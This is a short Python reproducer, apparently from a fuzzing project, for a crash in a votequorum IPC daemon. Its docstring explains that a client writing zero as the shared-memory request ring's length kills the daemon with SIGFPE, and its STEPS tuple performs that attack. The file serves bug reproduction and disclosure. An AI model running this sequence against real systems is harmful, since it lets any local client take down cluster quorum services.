"""A client writes 0 as the length of the request ring: the daemon divides by it and dies of SIGFPE.

Class: death by signal (SIGFPE). Other lengths make it unmap or read what is not the ring's: SIGSEGV.
Reach: any user who may connect: the ring's header is mapped writable by the client.
Configuration: shared memory, the default on Linux. Cost: one connection, one store, one request.
Last words: none in the log. strace: --- SIGFPE {si_signo=SIGFPE, si_code=FPE_INTDIV, ...} ---
"""

from __future__ import annotations

from fuzz.reproduce import reproduce
from votequorum_ipc.attack import Connect, Poke, Send
from votequorum_ipc.wire import votequorum

TRANSPORTS = ("shm",)
OUTCOME = "dies"

STEPS = (
    Connect(0, "votequorum"),
    Poke(0, "request", "word_size", 0),
    Send(0, votequorum.GETINFO.encode(nodeid=0)),
)

if __name__ == "__main__":
    reproduce(STEPS, __doc__)
